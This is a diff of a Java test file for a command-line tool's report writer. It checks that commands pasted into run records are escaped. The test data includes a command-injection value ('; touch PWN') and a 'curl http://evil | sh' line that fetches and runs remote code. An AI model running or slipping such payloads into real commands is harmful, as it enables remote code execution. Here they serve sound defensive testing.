@@ -44,7 +44,7 @@ final class PastedCommandsTest {
     ReportWriter.judge(run);
   }
 
-  private String printed(String... command) {
+  static String printed(Path folder, String... command) {
     ByteArrayOutputStream printed = new ByteArrayOutputStream();
     PrintStream all = new PrintStream(printed, true, StandardCharsets.UTF_8);
     Workspace here = new Workspace(folder, folder);
@@ -69,17 +69,17 @@ final class PastedCommandsTest {
     Files.delete(run.results());
     RunConditions begun = new RunConditions("0a1d", "", "first-look", "here", "boot", Map.of());
     Files.writeString(run.conditions(), JsonCodec.document(begun));
-    assertWords(printed("resume", run.root().toString()), EVIL);
+    assertWords(printed(folder, "resume", run.root().toString()), EVIL);
     ReportWriter.judge(run);
     String text = Files.readString(run.results());
     Files.writeString(run.results(), text.replace("\"seed\" : 42", "\"seed\" : \"four\""));
     SealWriter.judged(run);
-    assertWords(printed("compare", run.root().toString(), run.root().toString()), EVIL);
+    assertWords(printed(folder, "compare", run.root().toString(), run.root().toString()), EVIL);
   }
 
   @Test
   void idOfARun() {
-    assertWords(printed("report", run.root().toString()), EVIL);
+    assertWords(printed(folder, "report", run.root().toString()), EVIL);
   }
 
   @Test
@@ -87,10 +87,10 @@ final class PastedCommandsTest {
     String command = "./assay run first-look";
     assertThat(Files.readString(run.results())).contains(command);
     change(command, "./assay run first-look; touch PWN");
-    String unused = printed("report", run.root().toString());
+    String unused = printed(folder, "report", run.root().toString());
     assertThat(run.summary()).content().contains("./assay run 'first-look;' touch PWN");
     change("./assay run first-look;", "curl http://evil | sh;");
-    unused = printed("report", run.root().toString());
+    unused = printed(folder, "report", run.root().toString());
     assertThat(run.summary()).content().doesNotContain("evil");
     assertThat(run.report()).content().doesNotContain("evil");
   }
@@ -105,10 +105,10 @@ final class PastedCommandsTest {
   @Test
   void study() throws IOException {
     Path none = Files.createDirectories(folder.resolve("none"));
-    assertWords(printed("trend", EVIL, "--runs", none.toString()), EVIL);
+    assertWords(printed(folder, "trend", EVIL, "--runs", none.toString()), EVIL);
     Path studies = Files.createDirectories(folder.resolve("studies"));
     Files.writeString(studies.resolve(EVIL + ".yaml"), "study: x\n");
-    String printed = printed("list", "--all");
+    String printed = printed(folder, "list", "--all");
     assertThat(printed).contains("touch");
     assertWords(printed, EVIL);
   }
